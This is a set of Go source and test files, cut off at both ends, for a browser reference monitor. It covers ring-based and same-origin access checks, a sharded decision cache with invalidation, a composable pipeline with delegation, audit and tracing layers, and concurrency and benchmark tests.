	if want := 8 * 20 * len(objs); log.Len() != want {
		t.Errorf("audit records = %d, want %d", log.Len(), want)
	}
}
