package core

import (
	"reflect"
	"testing"

	"repro/internal/origin"
)

// pipeQueries builds a deterministic mixed query stream: same-origin
// allowed and denied singles plus a batched region with repeated
// equivalence classes.
func pipeQueries() (p Context, singles []struct {
	op Op
	o  Context
}, batchOp Op, region []Context) {
	site := origin.MustParse("http://site.example")
	other := origin.MustParse("http://other.example")
	p = Principal(site, 1, "app-script")
	singles = []struct {
		op Op
		o  Context
	}{
		{OpRead, Object(site, 2, UniformACL(2), "post")},
		{OpWrite, Object(site, 0, UniformACL(0), "head")},
		{OpUse, Object(other, 1, UniformACL(1), "foreign-cookie")},
		{OpRead, Object(site, 2, UniformACL(2), "post")}, // repeat: cache hit
	}
	batchOp = OpRead
	region = []Context{
		Object(site, 2, UniformACL(2), "c1"),
		Object(site, 2, UniformACL(2), "c2"), // same class as c1
		Object(site, 3, UniformACL(3), "u1"),
		Object(site, 0, ACL{}, "k1"),
		Object(site, 2, UniformACL(2), "c3"), // same class again
	}
	return
}

// driveMonitor runs the standard stream through a monitor.
func driveMonitor(m Monitor) {
	p, singles, batchOp, region := pipeQueries()
	for _, q := range singles {
		m.Authorize(p, q.op, q.o)
	}
	AuthorizeBatch(m, p, batchOp, region)
	for _, q := range singles {
		m.Authorize(p, q.op, q.o)
	}
}

// TestComposeMatchesHardwiredStack proves the pipeline reproduces the
// exact audit decision sequence of the previous hard-wired stack, for
// ERM and SOP, cached and uncached.
func TestComposeMatchesHardwiredStack(t *testing.T) {
	cases := []struct {
		name   string
		sop    bool
		cached bool
	}{
		{"erm-cached", false, true},
		{"erm-uncached", false, false},
		{"sop-cached", true, true},
		{"sop-uncached", true, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			// Old style: trace hooks wired by hand.
			oldAudit := &AuditLog{}
			var oldM Monitor
			switch {
			case tc.cached && tc.sop:
				oldM = &CachedMonitor{Inner: &SOPMonitor{}, Cache: NewDecisionCache(), Trace: oldAudit.Record, TraceBatch: oldAudit.RecordAll}
			case tc.cached:
				oldM = &CachedMonitor{Inner: &ERM{}, Cache: NewDecisionCache(), Trace: oldAudit.Record, TraceBatch: oldAudit.RecordAll}
			case tc.sop:
				oldM = &SOPMonitor{Trace: oldAudit.Record, TraceBatch: oldAudit.RecordAll}
			default:
				oldM = &ERM{Trace: oldAudit.Record, TraceBatch: oldAudit.RecordAll}
			}

			// New style: composed pipeline.
			newAudit := &AuditLog{}
			var base Monitor = &ERM{}
			if tc.sop {
				base = &SOPMonitor{}
			}
			var cacheLayer Layer
			if tc.cached {
				cacheLayer = WithCache(NewDecisionCache())
			}
			newM := Compose(base, cacheLayer, WithAudit(newAudit))

			driveMonitor(oldM)
			driveMonitor(newM)

			oldSeq, newSeq := oldAudit.All(), newAudit.All()
			if len(oldSeq) == 0 {
				t.Fatal("hard-wired stack recorded nothing; stream broken")
			}
			if !reflect.DeepEqual(oldSeq, newSeq) {
				t.Fatalf("decision sequences diverge:\n old: %v\n new: %v", oldSeq, newSeq)
			}
		})
	}
}

// TestComposeNilLayers pins that nil layers and nil layer arguments
// are pass-throughs.
func TestComposeNilLayers(t *testing.T) {
	base := &ERM{}
	m := Compose(base, nil, WithCache(nil), WithAudit(nil), WithTrace(nil), WithDelegations(nil), WithObs(nil, nil))
	if m != Monitor(base) {
		t.Fatalf("nil layers must compose to the base monitor, got %T", m)
	}
}

// TestWithTraceUnrollsBatches checks the trace layer sees one decision
// per node for batched regions.
func TestWithTraceUnrollsBatches(t *testing.T) {
	var seen []Decision
	m := Compose(&ERM{}, WithTrace(func(d Decision) { seen = append(seen, d) }))
	p, _, batchOp, region := pipeQueries()
	out := AuthorizeBatch(m, p, batchOp, region)
	if len(out) != len(region) || len(seen) != len(region) {
		t.Fatalf("batch returned %d decisions, trace saw %d, want %d", len(out), len(seen), len(region))
	}
	if !reflect.DeepEqual(out, seen) {
		t.Fatal("trace stream diverges from returned decisions")
	}
}

// floorMap is a test DelegationSource.
type floorMap map[[2]origin.Origin]Ring

func (f floorMap) DelegationFloor(host, guest origin.Origin) (Ring, bool) {
	r, ok := f[[2]origin.Origin{host, guest}]
	return r, ok
}

// TestDelegationLayer checks the rewrite: floored ring inside the
// host, original principal reported, undeclared pairs denied by the
// origin rule, and batches split into per-principal runs.
func TestDelegationLayer(t *testing.T) {
	host := origin.MustParse("http://portal.example")
	guest := origin.MustParse("http://widget.example")
	rogue := origin.MustParse("http://rogue.example")
	src := floorMap{{host, guest}: 2}

	audit := &AuditLog{}
	m := Compose(&ERM{}, WithDelegations(src), WithAudit(audit))

	gp := Principal(guest, 0, "widget")
	slot := Object(host, 2, UniformACL(2), "slot")
	chrome := Object(host, 1, UniformACL(1), "chrome")

	if d := m.Authorize(gp, OpWrite, slot); !d.Allowed {
		t.Fatalf("delegated slot write denied: %v", d)
	} else if d.Principal != gp {
		t.Fatalf("decision must report the original principal, got %v", d.Principal)
	}
	if d := m.Authorize(gp, OpWrite, chrome); d.Allowed || d.Rule != RuleRing {
		t.Fatalf("floored guest must fail the ring rule on chrome, got %v", d)
	}
	if d := m.Authorize(Principal(rogue, 0, "rogue"), OpRead, slot); d.Allowed || d.Rule != RuleOrigin {
		t.Fatalf("undelegated origin must fail the origin rule, got %v", d)
	}

	// Mixed-origin region: host objects (delegated) interleaved with
	// guest-origin objects (same-origin for the guest principal).
	own := Object(guest, 2, UniformACL(2), "own")
	region := []Context{slot, own, slot, chrome}
	out := AuthorizeBatch(m, gp, OpRead, region)
	if len(out) != len(region) {
		t.Fatalf("batch returned %d decisions, want %d", len(out), len(region))
	}
	wantAllowed := []bool{true, true, true, false}
	for i, d := range out {
		if d.Allowed != wantAllowed[i] {
			t.Errorf("region[%d] allowed=%v, want %v (%v)", i, d.Allowed, wantAllowed[i], d)
		}
		if d.Object != region[i] {
			t.Errorf("region[%d] object mismatch: %v", i, d.Object)
		}
		if d.Principal.Origin != guest {
			t.Errorf("region[%d] principal re-homed in output: %v", i, d.Principal)
		}
	}
	if audit.Len() != 3+len(region) {
		t.Fatalf("audit recorded %d decisions, want %d", audit.Len(), 3+len(region))
	}
}

// TestDelegationOutsideCacheShares checks the canonical layer order:
// the cache under a delegation layer stores plain re-homed verdicts, so
// an undelegated monitor sharing the cache gets hits, never a foreign
// delegation's verdicts keyed by the original principal.
func TestDelegationOutsideCacheShares(t *testing.T) {
	host := origin.MustParse("http://portal.example")
	guest := origin.MustParse("http://widget.example")
	cache := NewDecisionCache()
	src := floorMap{{host, guest}: 2}

	delegated := Compose(&ERM{}, WithCache(cache), WithDelegations(src))
	plain := Compose(&ERM{}, WithCache(cache))

	slot := Object(host, 2, UniformACL(2), "slot")
	gp := Principal(guest, 0, "widget")
	if d := delegated.Authorize(gp, OpWrite, slot); !d.Allowed {
		t.Fatalf("delegated write denied: %v", d)
	}
	// The cached key is the re-homed query: a genuine host principal at
	// the floored ring asking the same question must hit.
	before := cache.Stats()
	hostP := Principal(host, 2, "widget→delegated")
	if d := plain.Authorize(hostP, OpWrite, slot); !d.Allowed {
		t.Fatalf("same-origin write denied: %v", d)
	}
	after := cache.Stats()
	if after.Hits != before.Hits+1 {
		t.Fatalf("expected a shared-cache hit, stats %+v → %+v", before, after)
	}
	// And the ORIGINAL cross-origin query must never have been cached
	// as allowed for a monitor without the delegation.
	if d := plain.Authorize(gp, OpWrite, slot); d.Allowed {
		t.Fatalf("undelegated monitor allowed a cross-origin write: %v", d)
	}
}
