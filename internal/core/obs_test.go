package core

import (
	"fmt"
	"reflect"
	"testing"

	"repro/internal/obs"
	"repro/internal/origin"
)

// stripProvenance zeroes the trace fields so decision sequences can be
// compared on policy outcome alone.
func stripProvenance(ds []Decision) []Decision {
	out := append([]Decision(nil), ds...)
	for i := range out {
		out[i].TraceID = ""
		out[i].Span = 0
	}
	return out
}

// obsRegion builds a wide batched region collapsing into exactly three
// (origin, ring, ACL) classes — the figure4/phpbb shape in miniature.
// The BENCH pins (figure4 4175→125, phpbb 7408→1312, mixed 3647→512)
// are re-asserted at full scale by BENCH regeneration; this test pins
// the mechanism: WithObs must not change how many decisions the batch
// path computes.
func obsRegion(site origin.Origin, n int) []Context {
	region := make([]Context, 0, n)
	for i := 0; i < n; i++ {
		ring := Ring(1 + i%3)
		region = append(region, Object(site, ring, UniformACL(ring), fmt.Sprintf("node-%d", i)))
	}
	return region
}

// TestWithObsBatchProvenance is the satellite coverage for WithObs
// under batch authorization: one trace event per node, consecutive
// spans, identical audit sequences and identical per-class computation
// counts versus the untraced pipeline.
func TestWithObsBatchProvenance(t *testing.T) {
	site := origin.MustParse("http://site.example")
	p := Principal(site, 1, "app-script")
	region := obsRegion(site, 120)

	run := func(m Monitor) ([]Decision, BatchStats) {
		before := ReadBatchStats()
		out := AuthorizeBatch(m, p, OpRead, region)
		return out, ReadBatchStats().Sub(before)
	}

	plainAudit := &AuditLog{}
	plain := Compose(&ERM{}, WithCache(NewDecisionCache()), WithAudit(plainAudit))
	plainOut, plainStats := run(plain)

	tr := obs.NewTrace()
	ring := obs.NewDecisionRing(0)
	tracedAudit := &AuditLog{}
	traced := Compose(&ERM{}, WithCache(NewDecisionCache()),
		WithObs(func() *obs.Trace { return tr }, ring), WithAudit(tracedAudit))
	tracedOut, tracedStats := run(traced)

	// Per-class computation counts unchanged: the provenance layer adds
	// zero decision computations.
	if plainStats != tracedStats {
		t.Fatalf("batch accounting diverged: plain %+v, traced %+v", plainStats, tracedStats)
	}
	if tracedStats.Nodes != uint64(len(region)) || tracedStats.Distinct != 3 {
		t.Fatalf("batch stats %+v, want %d nodes / 3 distinct", tracedStats, len(region))
	}

	// Identical decision sequences once provenance is stripped.
	if !reflect.DeepEqual(plainOut, stripProvenance(tracedOut)) {
		t.Fatal("traced pipeline changed the decision sequence")
	}
	if !reflect.DeepEqual(stripProvenance(plainAudit.All()), stripProvenance(tracedAudit.All())) {
		t.Fatal("audit sequences diverge between traced and untraced pipelines")
	}

	// Every node's decision is stamped: same trace ID, spans 1..N in
	// input order, and the audit log carries the stamps (WithAudit is
	// outermost).
	for i, d := range tracedOut {
		if d.TraceID != tr.ID() {
			t.Fatalf("node %d trace ID %q, want %q", i, d.TraceID, tr.ID())
		}
		if d.Span != uint64(i+1) {
			t.Fatalf("node %d span %d, want %d", i, d.Span, i+1)
		}
	}
	audited := tracedAudit.All()
	if len(audited) != len(region) {
		t.Fatalf("audit recorded %d decisions, want %d", len(audited), len(region))
	}
	if audited[0].TraceID != tr.ID() || audited[0].Span == 0 {
		t.Fatalf("audit lost provenance: %+v", audited[0])
	}

	// One ring event per node, in span order, faithful to the verdicts.
	events := ring.Snapshot(obs.RingFilter{TraceID: tr.ID(), Ring: -1})
	if len(events) != len(region) {
		t.Fatalf("ring holds %d events for the trace, want %d", len(events), len(region))
	}
	for i, e := range events {
		if e.Span != uint64(i+1) {
			t.Fatalf("event %d span %d, want %d", i, e.Span, i+1)
		}
		if e.Allowed != tracedOut[i].Allowed || e.Rule != tracedOut[i].Rule.String() {
			t.Fatalf("event %d diverges from decision: %+v vs %v", i, e, tracedOut[i])
		}
		if e.Origin != site.String() || e.Ring != int(region[i].Ring) {
			t.Fatalf("event %d object fields wrong: %+v", i, e)
		}
	}
}

// TestWithObsSingles pins the single-query path: stamped spans
// continue across calls and the ring mirrors each decision.
func TestWithObsSingles(t *testing.T) {
	site := origin.MustParse("http://site.example")
	other := origin.MustParse("http://other.example")
	p := Principal(site, 1, "app-script")

	tr := obs.NewTrace()
	ring := obs.NewDecisionRing(8)
	m := Compose(&ERM{}, WithObs(func() *obs.Trace { return tr }, ring))

	allow := m.Authorize(p, OpRead, Object(site, 2, UniformACL(2), "post"))
	deny := m.Authorize(p, OpUse, Object(other, 1, UniformACL(1), "foreign"))
	if !allow.Allowed || deny.Allowed {
		t.Fatalf("verdicts wrong: %v / %v", allow, deny)
	}
	if allow.Span != 1 || deny.Span != 2 || allow.TraceID != deny.TraceID {
		t.Fatalf("span stamping wrong: %+v / %+v", allow, deny)
	}
	if got := len(ring.Snapshot(obs.RingFilter{Verdict: "deny", Ring: -1})); got != 1 {
		t.Fatalf("ring deny filter matched %d, want 1", got)
	}
}

// TestWithObsNilTrace pins that a nil trace provider result leaves
// decisions unstamped but still mirrored, and that WithObs(nil, nil)
// is a pass-through.
func TestWithObsNilTrace(t *testing.T) {
	base := &ERM{}
	if m := Compose(base, WithObs(nil, nil)); m != Monitor(base) {
		t.Fatalf("WithObs(nil, nil) must be a pass-through, got %T", m)
	}

	site := origin.MustParse("http://site.example")
	p := Principal(site, 1, "s")
	ring := obs.NewDecisionRing(4)
	m := Compose(base, WithObs(func() *obs.Trace { return nil }, ring))
	d := m.Authorize(p, OpRead, Object(site, 2, UniformACL(2), "o"))
	if d.TraceID != "" || d.Span != 0 {
		t.Fatalf("untraced decision stamped: %+v", d)
	}
	if ring.Total() != 1 {
		t.Fatalf("ring total %d, want 1", ring.Total())
	}
}
