package core

import (
	"fmt"
	"sync"
	"testing"

	"repro/internal/origin"
)

func cacheContexts() (Context, Context) {
	app := origin.MustParse("http://forum.example")
	p := Principal(app, 2, "script#test")
	o := Object(app, 2, UniformACL(2), "dom p#x")
	return p, o
}

func TestCachedMonitorMatchesInner(t *testing.T) {
	app := origin.MustParse("http://forum.example")
	other := origin.MustParse("http://evil.example")
	cases := []struct {
		name string
		p    Context
		op   Op
		o    Context
	}{
		{"allowed", Principal(app, 1, "a"), OpRead, Object(app, 2, UniformACL(2), "b")},
		{"origin-denied", Principal(other, 0, "a"), OpRead, Object(app, 2, UniformACL(2), "b")},
		{"ring-denied", Principal(app, 3, "a"), OpWrite, Object(app, 1, UniformACL(1), "b")},
		{"acl-denied", Principal(app, 2, "a"), OpWrite, Object(app, 2, ACL{Read: 2}, "b")},
		{"invalid-op", Principal(app, 1, "a"), Op(99), Object(app, 2, UniformACL(2), "b")},
	}
	inner := &ERM{}
	cached := &CachedMonitor{Inner: &ERM{}, Cache: NewDecisionCache()}
	for _, tc := range cases {
		want := inner.Authorize(tc.p, tc.op, tc.o)
		// Twice: once to fill, once from cache.
		for round := 0; round < 2; round++ {
			got := cached.Authorize(tc.p, tc.op, tc.o)
			if got.Allowed != want.Allowed || got.Rule != want.Rule {
				t.Errorf("%s round %d: got (%v,%v), want (%v,%v)",
					tc.name, round, got.Allowed, got.Rule, want.Allowed, want.Rule)
			}
			if got.Principal.Label != tc.p.Label || got.Object.Label != tc.o.Label {
				t.Errorf("%s round %d: cached decision lost query labels: %v", tc.name, round, got)
			}
		}
	}
	st := cached.Cache.Stats()
	if st.Hits != uint64(len(cases)) || st.Misses != uint64(len(cases)) {
		t.Errorf("stats = %d hits / %d misses, want %d/%d", st.Hits, st.Misses, len(cases), len(cases))
	}
}

// TestCacheKeyIgnoresLabels checks that two queries differing only in
// human-readable labels share one cache entry — labels are audit
// metadata, not policy inputs.
func TestCacheKeyIgnoresLabels(t *testing.T) {
	p, o := cacheContexts()
	m := &CachedMonitor{Inner: &ERM{}, Cache: NewDecisionCache()}
	m.Authorize(p, OpRead, o)
	p.Label, o.Label = "script#other", "dom div#y"
	m.Authorize(p, OpRead, o)
	if st := m.Cache.Stats(); st.Hits != 1 {
		t.Fatalf("relabeled query missed the cache: %+v", st)
	}
}

// TestCacheHitsTraceLikeMisses checks the audit stream is identical
// with and without the cache: every decision fires Trace.
func TestCacheHitsTraceLikeMisses(t *testing.T) {
	p, o := cacheContexts()
	log := &AuditLog{}
	m := &CachedMonitor{Inner: &ERM{}, Cache: NewDecisionCache(), Trace: log.Record}
	for i := 0; i < 5; i++ {
		m.Authorize(p, OpRead, o)
	}
	if log.Len() != 5 {
		t.Fatalf("audit saw %d decisions, want 5", log.Len())
	}
}

// TestInvalidateEvictsVerdicts is the policy-change test: after
// Invalidate, previously cached verdicts must be recomputed, and the
// entry count must reflect only current-generation entries.
func TestInvalidateEvictsVerdicts(t *testing.T) {
	p, o := cacheContexts()
	c := NewDecisionCache()
	m := &CachedMonitor{Inner: &ERM{}, Cache: c}

	m.Authorize(p, OpRead, o)
	if st := c.Stats(); st.Entries != 1 || st.Misses != 1 {
		t.Fatalf("after fill: %+v", st)
	}
	m.Authorize(p, OpRead, o)
	if st := c.Stats(); st.Hits != 1 {
		t.Fatalf("warm lookup missed: %+v", st)
	}

	c.Invalidate()
	if st := c.Stats(); st.Entries != 0 {
		t.Fatalf("stale entries still counted live: %+v", st)
	}
	m.Authorize(p, OpRead, o)
	st := c.Stats()
	if st.Hits != 1 || st.Misses != 2 {
		t.Fatalf("post-invalidate lookup should miss: %+v", st)
	}
	if st.Generation != 1 {
		t.Fatalf("generation = %d, want 1", st.Generation)
	}
	// The recomputed verdict is cached again under the new generation.
	m.Authorize(p, OpRead, o)
	if st := c.Stats(); st.Hits != 2 {
		t.Fatalf("refill did not restore hits: %+v", st)
	}
}

// TestInvalidateSwapsPolicy demonstrates the scenario Invalidate
// exists for: the monitor behind the cache changes semantics, and the
// cache must not keep serving the old policy's verdicts.
func TestInvalidateSwapsPolicy(t *testing.T) {
	app := origin.MustParse("http://forum.example")
	// Ring-3 principal writing a ring-1 object: ERM denies, SOP allows.
	p := Principal(app, 3, "script#ad")
	o := Object(app, 1, UniformACL(1), "dom")

	c := NewDecisionCache()
	m := &CachedMonitor{Inner: &ERM{}, Cache: c}
	if d := m.Authorize(p, OpWrite, o); d.Allowed {
		t.Fatal("ERM should deny")
	}
	m.Inner = &SOPMonitor{}
	c.Invalidate()
	if d := m.Authorize(p, OpWrite, o); !d.Allowed {
		t.Fatal("stale ERM verdict served after policy swap + Invalidate")
	}
}

// TestStoreDuringInvalidateStaysStale pins the lookup/store race down:
// a verdict computed before an Invalidate (its miss observed the old
// generation) must be stored as already-stale, not resurrected under
// the new generation.
func TestStoreDuringInvalidateStaysStale(t *testing.T) {
	p, o := cacheContexts()
	c := NewDecisionCache()
	k := key(p, OpRead, o)
	_, gen, ok := c.lookup(k)
	if ok || gen != 0 {
		t.Fatalf("expected clean miss at gen 0, got ok=%v gen=%d", ok, gen)
	}
	// Policy changes between the miss and the store.
	c.Invalidate()
	c.store(k, Decision{Allowed: true, Rule: RuleAllowed}, gen)
	if _, _, ok := c.lookup(k); ok {
		t.Fatal("verdict computed under the old generation served as fresh")
	}
	if st := c.Stats(); st.Entries != 0 {
		t.Fatalf("stale store counted live: %+v", st)
	}
}

// TestCacheShardOverflow drives one run of distinct keys well past the
// per-shard bound and checks the cache stays correct (never serves a
// wrong verdict) while bounding its population.
func TestCacheShardOverflow(t *testing.T) {
	c := NewDecisionCache()
	m := &CachedMonitor{Inner: &ERM{}, Cache: c}
	app := origin.MustParse("http://forum.example")
	// Vary the ACL to generate maxShardEntries*3 distinct keys.
	for i := 0; i < maxShardEntries*3; i++ {
		o := Object(app, 3, ACL{Read: Ring(i), Write: Ring(i), Use: Ring(i)}, "obj")
		d := m.Authorize(Principal(app, 0, "p"), OpRead, o)
		if !d.Allowed {
			t.Fatalf("ring-0 read denied at i=%d: %v", i, d)
		}
	}
	st := c.Stats()
	if st.Entries > cacheShardCount*maxShardEntries {
		t.Fatalf("cache unbounded: %d entries", st.Entries)
	}
}

// TestCacheConcurrentHammer pounds one shared cache from many
// goroutines mixing lookups, stores, and invalidations; the race
// detector validates the locking, and every returned decision is
// checked against a fresh uncached monitor.
func TestCacheConcurrentHammer(t *testing.T) {
	const goroutines = 16
	const iters = 2000

	var apps []origin.Origin
	for i := 0; i < 4; i++ {
		apps = append(apps, origin.MustParse(fmt.Sprintf("http://app%d.example", i)))
	}
	c := NewDecisionCache()
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			m := &CachedMonitor{Inner: &ERM{}, Cache: c}
			oracle := &ERM{}
			for i := 0; i < iters; i++ {
				p := Principal(apps[(g+i)%len(apps)], Ring(i%4), "p")
				o := Object(apps[i%len(apps)], Ring((i/2)%4), UniformACL(Ring(i%3)), "o")
				op := Op(i%3 + 1)
				got := m.Authorize(p, op, o)
				want := oracle.Authorize(p, op, o)
				if got.Allowed != want.Allowed || got.Rule != want.Rule {
					t.Errorf("goroutine %d iter %d: got (%v,%v), want (%v,%v)",
						g, i, got.Allowed, got.Rule, want.Allowed, want.Rule)
					return
				}
				if i%500 == 499 && g == 0 {
					c.Invalidate()
				}
			}
		}(g)
	}
	wg.Wait()
	st := c.Stats()
	if st.Hits == 0 {
		t.Fatal("hammer produced no cache hits")
	}
}

// TestAuditLogConcurrentHammer checks the sharded audit log under
// parallel writers: no records lost, ordered merge, filtered denials.
func TestAuditLogConcurrentHammer(t *testing.T) {
	const goroutines = 8
	const perG = 1000
	log := &AuditLog{}
	app := origin.MustParse("http://forum.example")
	m := &ERM{Trace: log.Record}
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < perG; i++ {
				// Even iterations allowed, odd denied by the ring rule.
				pr := Ring(i % 2 * 3)
				m.Authorize(Principal(app, pr, "p"), OpRead, Object(app, 1, UniformACL(1), "o"))
			}
		}(g)
	}
	wg.Wait()
	if got := log.Len(); got != goroutines*perG {
		t.Fatalf("Len = %d, want %d", got, goroutines*perG)
	}
	all := log.All()
	if len(all) != goroutines*perG {
		t.Fatalf("All = %d records, want %d", len(all), goroutines*perG)
	}
	denials := log.Denials()
	if want := goroutines * perG / 2; len(denials) != want {
		t.Fatalf("Denials = %d, want %d", len(denials), want)
	}
	log.Reset()
	if log.Len() != 0 || len(log.All()) != 0 {
		t.Fatal("Reset did not clear the log")
	}
}

func BenchmarkERMUncached(b *testing.B) {
	p, o := cacheContexts()
	m := &ERM{}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		m.Authorize(p, OpRead, o)
	}
}

func BenchmarkCachedMonitorHit(b *testing.B) {
	p, o := cacheContexts()
	m := &CachedMonitor{Inner: &ERM{}, Cache: NewDecisionCache()}
	m.Authorize(p, OpRead, o)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		m.Authorize(p, OpRead, o)
	}
}

func BenchmarkCachedMonitorHitParallel(b *testing.B) {
	p, o := cacheContexts()
	m := &CachedMonitor{Inner: &ERM{}, Cache: NewDecisionCache()}
	m.Authorize(p, OpRead, o)
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			m.Authorize(p, OpRead, o)
		}
	})
}
