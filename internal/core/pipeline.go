package core

import (
	"repro/internal/origin"
)

// The reference monitor used to be assembled by a private switch
// statement in the browser; anything beyond the built-in ERM/SOP ×
// cached/uncached matrix (notably the §7 delegation-aware monitor)
// could not be mounted in a real session. The pipeline below makes the
// monitor an open composition instead: a base monitor (ERM, SOPMonitor,
// or anything else implementing Monitor) is wrapped by Layers —
// caching, delegation rewriting, audit recording, tracing — each of
// which implements both Monitor and BatchAuthorizer. Batching passes
// through every layer, so the PR 2 complete-mediation invariant holds
// end to end: one audited decision per node, one decision computation
// per (origin, ring, ACL) equivalence class, whatever the stack.

// Layer is one composable stage of a monitor pipeline: it wraps an
// inner monitor and returns the wrapped one. Every layer returned by
// the With* constructors implements BatchAuthorizer as well as
// Monitor, so batched region authorizations keep their dedup and
// per-node audit semantics through arbitrary stacks.
type Layer func(Monitor) Monitor

// Compose wraps base with the given layers, applied left to right:
// the first layer sits closest to the base monitor, the last is
// outermost. The canonical enforcement stack is
//
//	Compose(&ERM{}, WithCache(c), WithDelegations(p), WithAudit(log))
//
// — cache probes innermost (memoizing pure rule verdicts), delegation
// rewriting outside the cache (so cached verdicts stay plain ERM
// verdicts shareable across monitors), and audit recording outermost
// (so every decision the stack emits is recorded exactly once).
// Nil layers are skipped.
func Compose(base Monitor, layers ...Layer) Monitor {
	m := base
	for _, l := range layers {
		if l != nil {
			m = l(m)
		}
	}
	return m
}

// WithCache returns the caching layer: verdict lookups hit the shared
// DecisionCache and only misses reach the inner monitor. A nil cache
// yields a pass-through layer.
func WithCache(c *DecisionCache) Layer {
	return func(inner Monitor) Monitor {
		if c == nil {
			return inner
		}
		return &CachedMonitor{Inner: inner, Cache: c}
	}
}

// WithAudit returns the audit layer: every decision the inner stack
// emits is recorded in the log — singles via Record, batched regions
// zero-copy via RecordAll. Mount it outermost so the log sees the
// final decisions (delegation layers restore the original principal
// before the record is written). A nil log yields a pass-through
// layer.
func WithAudit(log *AuditLog) Layer {
	return func(inner Monitor) Monitor {
		if log == nil {
			return inner
		}
		return &auditLayer{inner: inner, log: log}
	}
}

// auditLayer records every decision flowing out of the inner stack.
type auditLayer struct {
	inner Monitor
	log   *AuditLog
}

var (
	_ Monitor         = (*auditLayer)(nil)
	_ BatchAuthorizer = (*auditLayer)(nil)
)

// Authorize implements Monitor.
func (m *auditLayer) Authorize(p Context, op Op, o Context) Decision {
	d := m.inner.Authorize(p, op, o)
	m.log.Record(d)
	return d
}

// AuthorizeBatch implements BatchAuthorizer: the whole region is
// recorded in one RecordAll call (one ticket-range reservation, one
// shard lock), matching the TraceBatch path of the old hard-wired
// stack decision for decision.
func (m *auditLayer) AuthorizeBatch(p Context, op Op, objects []Context) []Decision {
	out := AuthorizeBatch(m.inner, p, op, objects)
	m.log.RecordAll(out)
	return out
}

// WithTrace returns a tracing layer: fn observes every decision the
// inner stack emits (batched regions are unrolled). A nil fn yields a
// pass-through layer.
func WithTrace(fn func(Decision)) Layer {
	return func(inner Monitor) Monitor {
		if fn == nil {
			return inner
		}
		return &traceLayer{inner: inner, fn: fn}
	}
}

// traceLayer feeds decisions to a callback.
type traceLayer struct {
	inner Monitor
	fn    func(Decision)
}

var (
	_ Monitor         = (*traceLayer)(nil)
	_ BatchAuthorizer = (*traceLayer)(nil)
)

// Authorize implements Monitor.
func (m *traceLayer) Authorize(p Context, op Op, o Context) Decision {
	d := m.inner.Authorize(p, op, o)
	m.fn(d)
	return d
}

// AuthorizeBatch implements BatchAuthorizer.
func (m *traceLayer) AuthorizeBatch(p Context, op Op, objects []Context) []Decision {
	out := AuthorizeBatch(m.inner, p, op, objects)
	for _, d := range out {
		m.fn(d)
	}
	return out
}

// DelegationSource resolves §7 mashup delegations: it reports the
// floor ring granted to principals of guest acting on host's objects,
// if the host has declared such a delegation. mashup.Policy implements
// it; the interface lives here so the delegation layer can rewrite
// queries without core importing the mashup package.
type DelegationSource interface {
	// DelegationFloor returns the most privileged ring a guest
	// principal may act as inside host's pages, and whether a
	// delegation for the pair exists at all.
	DelegationFloor(host, guest origin.Origin) (Ring, bool)
}

// WithDelegations returns the delegation layer: a cross-origin access
// whose (object-origin ← principal-origin) pair carries a declared
// delegation is re-homed — the principal is evaluated as a member of
// the object's origin with its ring floored at the delegated ring —
// and then decided by the inner stack. Accesses with no delegation
// pass through unchanged (the inner monitor's Origin rule denies them
// exactly as before), so composing this layer over a plain ERM
// reproduces mashup.Monitor. Mount it outside WithCache: the rewrite
// happens before the cache probe, so cached verdicts remain pure
// same-origin rule verdicts, shareable with undelegated monitors. A
// nil source yields a pass-through layer.
func WithDelegations(src DelegationSource) Layer {
	return func(inner Monitor) Monitor {
		if src == nil {
			return inner
		}
		return &delegationLayer{inner: inner, src: src}
	}
}

// delegationLayer rewrites delegated cross-origin queries.
type delegationLayer struct {
	inner Monitor
	src   DelegationSource
}

var (
	_ Monitor         = (*delegationLayer)(nil)
	_ BatchAuthorizer = (*delegationLayer)(nil)
)

// rehome returns the principal to evaluate for object o: p itself for
// same-origin or undelegated accesses, or p re-homed into o's origin
// with the floored ring when a delegation applies.
func (m *delegationLayer) rehome(p Context, o Context) (Context, bool) {
	if p.Origin.SameOrigin(o.Origin) {
		return p, false
	}
	floor, ok := m.src.DelegationFloor(o.Origin, p.Origin)
	if !ok {
		return p, false
	}
	fp := p
	fp.Origin = o.Origin
	fp.Ring = p.Ring.Outermost(floor)
	fp.Label = p.Label + "→delegated"
	return fp, true
}

// Authorize implements Monitor. Decisions report the ORIGINAL
// principal, so audit trails stay honest about who asked.
func (m *delegationLayer) Authorize(p Context, op Op, o Context) Decision {
	fp, rehomed := m.rehome(p, o)
	d := m.inner.Authorize(fp, op, o)
	if rehomed {
		d.Principal = p
	}
	return d
}

// AuthorizeBatch implements BatchAuthorizer. The rewrite depends on
// each object's origin, and the inner batch call carries a single
// principal, so the region is split into maximal runs of objects
// sharing one effective principal; each run batches through the inner
// stack (keeping the per-class dedup), and the runs are reassembled in
// input order. DOM regions are almost always single-origin, so the
// common case is exactly one inner batch call.
func (m *delegationLayer) AuthorizeBatch(p Context, op Op, objects []Context) []Decision {
	if len(objects) == 0 {
		return nil
	}
	var out []Decision
	for i := 0; i < len(objects); {
		fp, rehomed := m.rehome(p, objects[i])
		j := i + 1
		for j < len(objects) {
			np, nr := m.rehome(p, objects[j])
			if nr != rehomed || np != fp {
				break
			}
			j++
		}
		run := AuthorizeBatch(m.inner, fp, op, objects[i:j])
		if rehomed {
			for k := range run {
				run[k].Principal = p
			}
		}
		if i == 0 && j == len(objects) {
			return run
		}
		out = append(out, run...)
		i = j
	}
	return out
}
