package core

import (
	"testing"
	"testing/quick"
)

func TestACLZeroValueIsFailSafe(t *testing.T) {
	// §4.3: "the ACL will be set to r=0, w=0, x=0, allowing only the
	// principals in ring 0 to access it."
	var a ACL
	for _, op := range []Op{OpRead, OpWrite, OpUse} {
		if !a.Permits(RingKernel, op) {
			t.Errorf("zero ACL must permit ring 0 %v", op)
		}
		if a.Permits(1, op) {
			t.Errorf("zero ACL must deny ring 1 %v", op)
		}
	}
}

func TestACLCeiling(t *testing.T) {
	a := ACL{Read: 1, Write: 0, Use: 2}
	tests := []struct {
		op   Op
		want Ring
	}{
		{OpRead, 1},
